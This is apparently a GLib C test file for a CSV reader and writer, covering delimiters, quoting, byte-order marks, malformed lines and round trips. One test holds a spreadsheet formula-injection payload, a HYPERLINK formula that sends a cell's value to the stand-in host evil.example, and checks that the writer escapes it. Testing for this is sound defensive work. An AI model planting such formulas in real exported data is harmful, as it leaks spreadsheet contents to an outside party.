/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "duo-csv.h"

#include <string.h>

#include "duo-server-error.h"

/* All records of @text: cells apart by "|", records by "/"; a fault is "!" and its line. */
static char *
read_all (const char *text, gsize length)
{
  g_autoptr (DuoCsv) csv = duo_csv_new (text, length);
  GString *all = g_string_new (NULL);

  while (TRUE)
    {
      g_autoptr (GError) error = NULL;
      guint line;
      g_auto (GStrv) cells = duo_csv_next (csv, &line, &error);
      g_autofree char *joined = cells ? g_strjoinv ("|", cells) : NULL;

      if (cells == NULL && error == NULL)
        return g_string_free (all, FALSE);
      if (error)
        {
          g_assert_error (error, DUO_SERVER_ERROR, DUO_SERVER_ERROR_CONFIG);
          g_string_append_printf (all, "!%u/", line);
        }
      else
        g_string_append_printf (all, "%u:%s/", line, joined);
    }
}

static void
test_records (void)
{
  static const struct
  {
    const char *text;
    const char *expected;
  } cases[] = {
      {"", ""},
      {"\n\r\n", ""},
      {"a", "1:a/"},
      {"a,b\nc,d\n", "1:a|b/2:c|d/"},
      {"a,b\r\nc,d", "1:a|b/2:c|d/"},
      {"\xef\xbb\xbf"
       "a;b\nc,d;e",
       "1:a|b/2:c,d|e/"},
      {"a\tb\n", "1:a|b/"},
      {"\"x,y\";b\n1,2;3\n", "1:x,y|b/2:1,2|3/"},
      {"a,\n,b\n,,\nc,d", "1:a|/2:|b/4:c|d/"},
      {"a,b\n\"x \"\"y\"\"\",\"1\n2\"\nc,d\n", "1:a|b/2:x \"y\"|1\n2/4:c|d/"},
      {"\"a\",\"\"\n", "1:a|/"},
      {"a,b\n\"x\"y,1\nc,d\n", "1:a|b/!2/3:c|d/"},
      {"a,b\nx\"y,1\nc,d\n", "1:a|b/!2/3:c|d/"},
      {"a,b\n\"x,1\nc,d\n", "1:a|b/!2/3:c|d/"},
      {"a,b\rc,d\ne,f", "!1/2:e|f/"},
      {"a,b\n\xff,1\nc,d\n", "1:a|b/!2/3:c|d/"},
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *found = read_all (cases[i].text, strlen (cases[i].text));

      g_assert_cmpstr (found, ==, cases[i].expected);
    }
}

/* What a spreadsheet calls "Unicode text". */
static void
test_two_bytes_a_letter (void)
{
  static const char text[] = "\xff\xfe"
                             "a\0,\0b\0\n\0";
  g_autofree char *found = read_all (text, sizeof text - 1);

  g_assert_true (g_str_has_prefix (found, "!1/"));
}

static void
test_written_is_read (void)
{
  static const char *const cells[] = {"", "a", "b,c", "d;e", "f\tg", "\"h\" i", "j\r\nk", " l ", NULL};
  g_autoptr (GString) text = g_string_new (NULL);
  g_autoptr (DuoCsv) csv = NULL;
  g_auto (GStrv) found = NULL;
  guint line;

  duo_csv_write (text, cells);
  csv = duo_csv_new (text->str, text->len);
  found = duo_csv_next (csv, &line, NULL);
  g_assert_true (g_strv_equal ((const char *const *) found, cells));
}

/* What a spreadsheet would reckon with is text in it. */
static void
test_formulas_are_text (void)
{
  static const char *const cells[] = {
      "=HYPERLINK(\"http://evil.example/\"&B2)", "+1", "-1", "@SUM(A1)", "1=1", NULL};
  g_autoptr (GString) text = g_string_new (NULL);

  duo_csv_write (text, cells);
  g_assert_cmpstr (text->str, ==,
                   "\"'=HYPERLINK(\"\"http://evil.example/\"\"&B2)\",\"'+1\",\"'-1\",\"'@SUM(A1)\",1=1\r\n");
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/csv/records", test_records);
  g_test_add_func ("/csv/two-bytes-a-letter", test_two_bytes_a_letter);
  g_test_add_func ("/csv/written-is-read", test_written_is_read);
  g_test_add_func ("/csv/formulas-are-text", test_formulas_are_text);

  return g_test_run ();
}
